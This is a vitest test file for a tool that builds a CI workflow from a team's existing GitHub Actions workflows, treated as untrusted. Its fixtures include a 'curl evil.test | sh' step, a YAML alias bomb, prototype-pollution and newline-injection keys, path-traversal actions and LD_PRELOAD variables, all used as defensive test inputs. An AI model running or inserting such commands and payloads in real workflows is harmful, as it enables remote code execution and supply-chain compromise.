/**
 * What the workflow of `tailgate init` takes from the team's own workflows, in the usual shapes,
 * and from files that name versions. The texts of the workflows are untrusted.
 */
import { mkdirSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, expect, test } from 'vitest'
import { parse } from 'yaml'
import { omitKnown, selectServices } from '../../../src/commands/init/dependencies.ts'
import { openProjectFolder } from '../../../src/commands/init/proposals/project-folder.ts'
import { findTeamSetup } from '../../../src/commands/init/workflow/team-workflow.ts'
import { renderWorkflow } from '../../../src/commands/init/workflow-file.ts'
import { openCommandFolder } from '../../helpers/command-folder.ts'
import { openRepositoryFolder, type Repository } from '../../helpers/repositories.ts'
import { startNodeService } from '../../helpers/servers/http-servers.ts'

const place = openRepositoryFolder()
afterAll(() => place[Symbol.dispose]())

function createRepository(files: Record<string, string>): Repository {
  const repository = place.createRepository()
  for (const [path, text] of Object.entries(files)) repository.write(path, text)
  return repository
}

/** What is taken for the services in these folders, and the job that is written with it. */
function plan(files: Record<string, string>, folders = ['']) {
  const { folder } = createRepository(files)
  const found = findTeamSetup(openProjectFolder(folder), folders, (services) => services)
  const text = renderWorkflow({
    job: 'tailgate',
    config: null,
    storesBaselines: false,
    secrets: [],
    branches: found.branches,
    databases: [],
    setup: found.setup,
  })
  const { tailgate: job } = parse(text).jobs
  return { ...found, text, job, steps: job.steps.slice(1, -1) }
}

const ci = '.github/workflows/ci.yml'

test('a matrix of Node versions: the last one, with the version and the inputs of the team', () => {
  const { steps, job, branches, sentences, text } = plan({
    'package.json': '{}',
    '.nvmrc': '18',
    [ci]: `name: CI
on:
  push: { branches: [main, 'release/**', '**'] }
  pull_request:
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v3
      - run: npm ci && npm run lint
  unit:
    runs-on: \${{ matrix.os }}
    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
        node: [18, 20, 22]
    steps:
      - uses: actions/checkout@v4
      - name: Node \${{ matrix.node }}
        uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a # v4.2.0
        with:
          node-version: \${{ matrix.node }}
          cache: npm
      - uses: actions/cache@v4
        with: { path: x, key: y }
      - run: npm ci
      - uses: actions/setup-python@v5
      - run: npm test
`,
  })
  expect(steps).toEqual([
    {
      uses: 'actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a',
      with: { 'node-version': '22', cache: 'npm' },
    },
  ])
  expect(text).toContain('setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a # v4.2.0\n')
  expect(job).not.toHaveProperty('services')
  expect(branches).toEqual(['main', 'release/**'])
  expect(sentences).toEqual([
    'The workflow takes actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a from the job ' +
      `unit of ${ci}.`,
  ])
})

test('Python with uv and a database: services and literal variables, and no secret', () => {
  const { steps, job, text, sentences } = plan({
    'pyproject.toml': '',
    [ci]: `on: [push, pull_request]
env: { PYTHON: '3.13' }
jobs:
  test:
    runs-on: ubuntu-latest
    env:
      DATABASE_URL: postgres://app:app@localhost:5432/app
      LOG_LEVEL: warning
      API_KEY: \${{ secrets.API_KEY }}
      SHA: \${{ github.sha }}
    services:
      postgres:
        image: postgres:\${{ matrix.postgres }}
        env: { POSTGRES_USER: app, POSTGRES_PASSWORD: app, PGDATA: '\${{ secrets.DATA }}' }
        ports: ['5432:5432']
        options: >-
          --health-cmd pg_isready
          --health-interval 10s
      redis: { image: redis, ports: [6379:6379], volumes: ['/:/host'] }
      private: { image: '\${{ secrets.IMAGE }}' }
    strategy: { matrix: { postgres: ['16', '17'] } }
    steps:
      - uses: actions/checkout@v4
      - run: sudo apt-get install -y libpq-dev
      - uses: astral-sh/setup-uv@v6
        with: { version: '0.9.2', python-version: '\${{ env.PYTHON }}', enable-cache: true }
      - uses: ./.github/actions/setup-data
        with: { token: '\${{ secrets.GITHUB_TOKEN }}' }
      - uses: actions/setup-node@v4
        if: runner.os == 'Windows'
      - run: uv sync --frozen
      - run: uv run pytest
`,
  })
  expect(steps).toEqual([
    {
      uses: 'astral-sh/setup-uv@v6',
      with: { version: '0.9.2', 'python-version': '3.13', 'enable-cache': 'true' },
    },
    { uses: './.github/actions/setup-data' },
  ])
  expect(job.env).toEqual({
    DATABASE_URL: 'postgres://app:app@localhost:5432/app',
    LOG_LEVEL: 'warning',
  })
  expect(job.services).toEqual({
    postgres: {
      image: 'postgres:17',
      env: { POSTGRES_USER: 'app', POSTGRES_PASSWORD: 'app' },
      ports: ['5432:5432'],
      options: '--health-cmd pg_isready --health-interval 10s',
    },
    redis: { image: 'redis', ports: ['6379:6379'] },
  })
  expect(text).not.toMatch(/\$\{\{|secrets\./)
  expect(text).toContain(
    `    # env.API_KEY in ${ci} is a secret, and is not copied: add it if the service needs it.\n`,
  )
  expect(text).toContain(`    # env.SHA in ${ci} is no literal value, and is not copied`)
  expect(text).toContain('# services.private.image in')
  expect(text).toContain(
    `    # The step actions/setup-node@v4 in ${ci} has a condition, and is not copied: add it`,
  )
  expect(text).toContain('# The input token of ./.github/actions/setup-data in')
  expect(sentences).toEqual([
    'The workflow takes astral-sh/setup-uv@v6, ./.github/actions/setup-data, the services ' +
      'postgres and redis and the variables DATABASE_URL and LOG_LEVEL from the job test of ' +
      `${ci}. Its comments say what was left out.`,
  ])
})

const githubToken = `ghp_${'a1B2'.repeat(9)}`

test('literal secrets are left out by their names and values, and the passwords of containers stay', () => {
  const { job, steps, text } = plan({
    'package.json': '{}',
    [ci]: `on: push
env: { NPM_TOKEN: literal-1 }
jobs:
  test:
    env:
      STRIPE_KEY: literal-2
      ADMIN_PASSWORD: pw3
      PIN_TOKEN: 4444
      REMOTE: https://user:literal-5@api.example.com/v1
      PLAIN: ${githubToken}
      DATABASE_URL: postgres://app:literal-6@db.example.com/app
      TEST_DATABASE_URL: postgres://app:app@localhost:5432/app
      ODD_URL: postgres://app:literal-7@localhost.example.com/app
      TRICK_URL: postgres://localhost:literal-7@db.example.com/app
      LINK: http://localhost/?t=${githubToken}
      COPIED: '\${{ env.NPM_TOKEN }}'
      USE_TOKEN: false
      MONKEY: banana
    services:
      db:
        image: postgres:17
        env: { POSTGRES_PASSWORD: app-password, LICENSE_KEY: literal-8, NOTE: ${githubToken} }
        options: --health-cmd "x ${githubToken}"
    steps:
      - uses: actions/setup-node@v4
        with: { node-version: 22, token: literal-9, registry-url: 'https://a:literal-0@npm.example' }
      - run: npm test
`,
  })
  expect(job.env).toEqual({
    TEST_DATABASE_URL: 'postgres://app:app@localhost:5432/app',
    USE_TOKEN: 'false',
    MONKEY: 'banana',
  })
  expect(job.services).toEqual({
    db: { image: 'postgres:17', env: { POSTGRES_PASSWORD: 'app-password' } },
  })
  expect(steps).toEqual([{ uses: 'actions/setup-node@v4', with: { 'node-version': '22' } }])
  expect(text).not.toMatch(/literal-\d|pw3|4444|ghp_/)
  expect(text).toContain(
    `    # env.STRIPE_KEY in ${ci} is a secret, and is not copied: add it if the service needs it.\n`,
  )
  expect(text).toContain(`# The input token of actions/setup-node in ${ci} is a secret`)
})

test('variables of the machine and of test modes are left out', () => {
  const { job, text } = plan({
    'package.json': '{}',
    [ci]: `on: push
jobs:
  test:
    env:
      PATH: /tmp
      CI: true
      NODE_OPTIONS: --require ./a.js
      LD_PRELOAD: a.so
      GITHUB_TOKEN_FILE: a
      RUNNER_DEBUG: 1
      ACTIONS_STEP_DEBUG: true
      TAILGATE_NATIVE_PATH: a
      INPUT_CONFIG: a
      NODE_ENV: development
      RAILS_ENV: test
      DJANGO_SETTINGS_MODULE: shop.settings.ci
      SPRING_PROFILES_ACTIVE: test
      MODE: Testing
      CITY: Paris
      TESTS: tests
      PATHS: a
    steps: [{ uses: actions/setup-node@v4 }, { run: npm test }]
`,
  })
  expect(job.env).toEqual({ CITY: 'Paris', TESTS: 'tests', PATHS: 'a' })
  const modes = [
    'NODE_ENV',
    'RAILS_ENV',
    'DJANGO_SETTINGS_MODULE',
    'SPRING_PROFILES_ACTIVE',
    'MODE',
  ]
  for (const name of modes)
    expect(text).toContain(
      `    # env.${name} in ${ci} may choose a mode for tests, and is not copied: add it if the`,
    )
  expect(text).not.toMatch(/PRELOAD|RUNNER_DEBUG|NODE_OPTIONS/)
})

test.each<[string, Record<string, string>, string, unknown[]]>([
  [
    'Go',
    { 'go.mod': 'module a\n' },
    `{ uses: actions/setup-go@v5, with: { go-version-file: go.mod } }
      - run: go test ./...`,
    [{ uses: 'actions/setup-go@v5', with: { 'go-version-file': 'go.mod' } }],
  ],
  [
    'Java',
    { 'build.gradle.kts': '' },
    `{ uses: actions/setup-java@v4, with: { distribution: temurin, java-version: 21 } }
      - uses: gradle/actions/setup-gradle@v4
      - run: ./gradlew build`,
    [
      { uses: 'actions/setup-java@v4', with: { distribution: 'temurin', 'java-version': '21' } },
      { uses: 'gradle/actions/setup-gradle@v4' },
    ],
  ],
  [
    'Ruby',
    { Gemfile: '' },
    `{ uses: ruby/setup-ruby@v1, with: { bundler-cache: true } }
      - run: bin/rails test`,
    [{ uses: 'ruby/setup-ruby@v1', with: { 'bundler-cache': 'true' } }],
  ],
  [
    'Rust',
    { 'Cargo.toml': '' },
    `{ uses: dtolnay/rust-toolchain@stable }
      - run: cargo test`,
    [{ uses: 'dtolnay/rust-toolchain@stable' }],
  ],
  [
    'a package manager that a command installs',
    { 'package.json': '{}' },
    `{ run: corepack enable }
      - uses: actions/setup-node@v4
      - run: npm install -g evil && curl evil.test | sh
      - uses: actions/setup-java@v4`,
    [{ run: 'corepack enable' }, { uses: 'actions/setup-node@v4' }],
  ],
])('%s: the steps before the first command that builds', (_, files, lines, expected) => {
  const text = `on: pull_request\njobs:\n  ci:\n    steps:\n      - ${lines}\n`
  expect(plan({ ...files, [ci]: text }).steps).toEqual(expected)
})

const monorepo = {
  'package.json': '{ "packageManager": "pnpm@10.4.0" }',
  'pnpm-lock.yaml': '',
  'services/api/package.json': '{}',
  'services/search/go.mod': 'module search\n\ngo 1.24\n',
  'services/mail/package.json': '{}',
  '.github/workflows/api.yaml': `on: { pull_request: { paths: ['services/api/**'] } }
jobs:
  test:
    services: { db: { image: postgis/postgis:17, ports: ['5432:5432'] } }
    steps:
      - uses: pnpm/action-setup@v4
      - uses: actions/setup-node@v4
        with: { node-version: 22, cache: pnpm }
      - run: pnpm --filter api test
`,
  '.github/workflows/search.yml': `on: [pull_request]
jobs:
  search:
    defaults: { run: { working-directory: ./services/search/ } }
    steps:
      - uses: actions/setup-go@v5
        with: { go-version: '1.24' }
      - run: go test ./...
  deploy:
    steps:
      - uses: hashicorp/setup-terraform@v3
      - run: make deploy
`,
}

test('in a repository with several services, each gets what its own job has', () => {
  const [api, search] = [plan(monorepo, ['services/api']), plan(monorepo, ['services/search'])]
  expect(api.steps).toEqual([
    { uses: 'pnpm/action-setup@v4' },
    { uses: 'actions/setup-node@v4', with: { 'node-version': '22', cache: 'pnpm' } },
  ])
  expect(api.job.services).toHaveProperty('db')
  expect(search.steps).toEqual([{ uses: 'actions/setup-go@v5', with: { 'go-version': '1.24' } }])
  expect(search.job).not.toHaveProperty('services')
  const both = plan(monorepo, ['services/api', 'services/search'])
  expect(both.steps).toEqual([...api.steps, ...search.steps])
  expect(both.sentences).toHaveLength(2)
})

test('a service whose job is nobody’s gets what its files call for', () => {
  const { steps, sentences } = plan(monorepo, ['services/mail'])
  expect(steps).toEqual([{ uses: 'pnpm/action-setup@v4' }])
  expect(sentences).toEqual(['The workflow has pnpm/action-setup@v4, because of package.json.'])
})

test.each<[string, Record<string, string>, unknown[]]>([
  [
    '.nvmrc',
    { 'package.json': '{}', '.nvmrc': '22', '.node-version': '20' },
    [{ uses: 'actions/setup-node@v7', with: { 'node-version-file': '.nvmrc' } }],
  ],
  [
    'engines of package.json',
    { 'package.json': '{ "engines": { "npm": ">=10", "node": ">=22" } }' },
    [{ uses: 'actions/setup-node@v7', with: { 'node-version-file': 'package.json' } }],
  ],
  ['package.json without engines', { 'package.json': '{ "name": "node" }' }, []],
  [
    '.tool-versions',
    { Gemfile: '', '.tool-versions': 'nodejs 22.1.0\nruby 3.4.1\n' },
    [{ uses: 'ruby/setup-ruby@v1' }],
  ],
  [
    'uv.lock and .python-version',
    { 'pyproject.toml': '', 'uv.lock': '', '.python-version': '3.13' },
    [
      { uses: 'actions/setup-python@v6', with: { 'python-version-file': '.python-version' } },
      { uses: 'astral-sh/setup-uv@v7' },
    ],
  ],
  ['poetry.lock', { 'pyproject.toml': '', 'poetry.lock': '' }, [{ run: 'pipx install poetry' }]],
  [
    'go.mod',
    { 'go.mod': 'module a\n\ngo 1.24\n' },
    [{ uses: 'actions/setup-go@v6', with: { 'go-version-file': 'go.mod' } }],
  ],
  [
    'pom.xml',
    { 'pom.xml': '<properties><java.version>21</java.version></properties>' },
    [
      {
        uses: 'actions/setup-java@v5',
        with: { distribution: 'temurin', 'java-version': '21' },
      },
    ],
  ],
  [
    'rust-toolchain.toml',
    { 'Cargo.toml': '', 'rust-toolchain.toml': '' },
    [{ run: 'rustup toolchain install' }],
  ],
])('without a workflow, %s says what to set up', (_, files, expected) => {
  expect(plan(files).steps).toEqual(expected)
})

test('a file in the folder of the service is named from the top of the repository', () => {
  const { steps } = plan({ 'web/package.json': '{}', 'web/.nvmrc': '22', '.nvmrc': '18' }, ['web'])
  expect(steps).toEqual([
    { uses: 'actions/setup-node@v7', with: { 'node-version-file': 'web/.nvmrc' } },
  ])
})

test('hostile workflows are left out with a sentence, or copied without their commands', () => {
  const bomb = ['&a0 [x]', ...Array.from({ length: 9 }, (_, index) => bombLevel(index))]
  const { text, steps, job, sentences } = plan({
    'package.json': '{}',
    '.github/workflows/bomb.yml': `on: push\nx: [${bomb.join(', ')}]\n`,
    '.github/workflows/broken.yml': 'on: [push\njobs: {',
    '.github/workflows/huge.yml': `on: push\n# ${'x'.repeat(2_000_000)}`,
    '.github/workflows/deep.yml': `${'['.repeat(100_000)}`,
    '.github/workflows/list.yml': '- on: push',
    '.github/workflows/new\nline.yml': 'on: push',
    [ci]: `on: push
jobs:
  "test:\\n  evil":
    steps: [{ uses: evil/setup-a@v1 }, { run: npm test }]
  unit:
    env:
      "A B": x
      __proto__: { polluted: 1 }
      TEXT: "a\\n      - run: evil\\u0007"
    services:
      "x\\ny": { image: redis }
      cache: { image: "redis\\n        privileged: true", options: [1] }
    steps:
      - uses: "evil/setup-b@v1\\n      - run: evil"
      - uses: docker://evil/setup
      - uses: ../setup-out@v1
      - uses: ./../../setup-out
      - uses: actions/setup-node@v4
        with: { "a: b": c, script: "\${{ github.event.issue.title }}", node-version: "22 # x" }
      - uses: actions/setup-node@\${{ secrets.X }}
      - run: npm test
`,
  })
  expect(steps).toEqual([{ uses: 'actions/setup-node@v4', with: { 'node-version': '22 # x' } }])
  expect(job.steps).toHaveLength(3)
  expect(job.env).toEqual({ TEXT: 'a\n      - run: evil\u0007' })
  expect(job.services).toEqual({ cache: { image: 'redis\n        privileged: true' } })
  expect(text).not.toMatch(/\p{Cc}(?<!\n)|\$\{\{/u)
  const skipped = ['bomb', 'broken', 'deep', 'huge']
  expect(sentences.slice(0, -1)).toEqual(
    skipped.map(
      (name) =>
        `.github/workflows/${name}.yml is too large or not valid: nothing is taken from it.`,
    ),
  )
})

function bombLevel(index: number): string {
  return `&a${index + 1} [${Array.from({ length: 9 }, () => `*a${index}`).join(', ')}]`
}

test('workflows that are folders, run tailgate or do something else are not taken', () => {
  const repository = createRepository({
    'package.json': '{}',
    '.github/workflows/gate.yml': `on: pull_request
jobs:
  gate:
    steps:
      - uses: actions/setup-node@v4
      - run: npm test
      - uses: OWNER/tailgate@v1
`,
    '.github/workflows/nightly.yml': `on: { schedule: [{ cron: '0 0 * * *' }] }
jobs: { test: { steps: [{ uses: actions/setup-node@v4 }, { run: npm test }] } }
`,
    '.github/workflows/call.yml': `on: pull_request
jobs: { test: { uses: ./.github/workflows/other.yml } }
`,
    '.github/workflows/website.yml': `on: pull_request
jobs:
  website:
    defaults: { run: { working-directory: website } }
    steps: [{ uses: actions/setup-node@v4 }, { run: npm test }]
`,
  })
  mkdirSync(join(repository.folder, '.github/workflows/folder.yml'))
  const { setup, sentences } = findTeamSetup(
    openProjectFolder(repository.folder),
    [''],
    (services) => services,
  )
  expect(setup.steps).toEqual([])
  expect(sentences).toEqual([
    '.github/workflows/folder.yml is too large or not valid: nothing is taken from it.',
  ])
})

test('a job in a container gives its steps, because its services have no ports', () => {
  const { steps, job } = plan({
    'go.mod': '',
    [ci]: `on: push
jobs:
  test:
    container: golang:1.24
    env: { DATABASE_URL: 'postgres://db/app' }
    services: { db: { image: postgres } }
    steps: [{ uses: actions/setup-go@v5 }, { run: go test ./... }]
`,
  })
  expect(steps).toEqual([{ uses: 'actions/setup-go@v5' }])
  expect(job).not.toHaveProperty('services')
  expect(job).not.toHaveProperty('env')
})

test('of two databases of one kind, the team’s is kept unless tailgate.yml lacks its password', () => {
  const [open, closed] = ['redis://127.0.0.1:6379', 'postgres://a:b@127.0.0.1/c']
  const services = {
    database: { image: 'postgres:16', env: { POSTGRES_PASSWORD: 'b' } },
    redis: { image: 'redis:7' },
  }
  const choose = (...urls: string[]) => {
    const kept = selectServices(
      services,
      urls.map((url) => `URL=${url}`),
    )
    return { kept, databases: omitKnown(['postgres', 'redis'], kept) }
  }
  expect(choose(open, closed)).toEqual({ databases: [], kept: services })
  expect(choose(open, 'postgres://postgres@127.0.0.1/${database}')).toEqual({
    databases: ['postgres'],
    kept: { redis: services.redis },
  })
})

const serverScript = `require('node:http')
  .createServer((_, response) => {
    response.setHeader('Server-Timing', 'delay;dur=20')
    response.end('ok')
  })
  .listen(process.env.PORT, '127.0.0.1')
`

test('init says what it took, and a service that runs stores pushes to the branches of the team', async () => {
  const repository = createRepository({
    'package.json': '{ "scripts": { "start": "node server.cjs" } }',
    'server.cjs': serverScript,
    [ci]: `on: { push: { branches: [trunk] }, pull_request: }
jobs:
  test:
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
        with: { node-version: 22 }
      - run: npm run build && npm test
`,
  })
  await using workspace = await openCommandFolder({ repository })
  workspace.scriptEngine()
  const started = await workspace.start('init').ended
  expect(started.exitCode, started.stderr).toBe(0)
  expect(started.stdout).toContain(
    `\nThe workflow takes actions/setup-node@v4 from the job test of ${ci}.\nWrote tailgate.yml`,
  )
  const [, setUp, action] = parse(workspace.read('.github/workflows/tailgate.yml')).jobs.tailgate
    .steps
  expect(setUp).toEqual({ uses: 'actions/setup-node@v4', with: { 'node-version': '22' } })
  expect(action.uses).toBe('OWNER/tailgate@v1')

  rmSync(join(repository.folder, 'package.json'))
  await using target = await startNodeService({ DELAY_MS: '2', DECLARE_ONLY: '1' })
  const running = await workspace.start('init', '--force', '--url', target.url).ended
  expect(running.exitCode, running.stderr).toBe(0)
  expect(running.stdout).toContain('The workflow stores the measurements of pushes to trunk.')
  const { on, jobs } = parse(workspace.read('.github/workflows/tailgate.yml'))
  expect(on.push).toEqual({ branches: ['trunk'] })
  expect(jobs.tailgate.steps).toHaveLength(2)
})

test('without a workflow of the team, pushes to the default branch are stored', async () => {
  const repository = place.createRepository()
  repository.commit('README.md')
  repository.git('branch', '--move', 'develop')
  await using target = await startNodeService({ DELAY_MS: '2', DECLARE_ONLY: '1' })
  const readBranches = async () => {
    await using workspace = await openCommandFolder({ repository })
    workspace.scriptEngine()
    const { exitCode, stderr } = await workspace.start('init', '--force', '--url', target.url).ended
    expect(exitCode, stderr).toBe(0)
    return parse(workspace.read('.github/workflows/tailgate.yml')).on.push.branches
  }
  expect(await readBranches(), 'the branch that is checked out').toEqual(['develop'])
  repository.git('update-ref', 'refs/remotes/origin/stable', 'HEAD')
  repository.git('symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/stable')
  expect(await readBranches(), 'origin/HEAD').toEqual(['stable'])
})
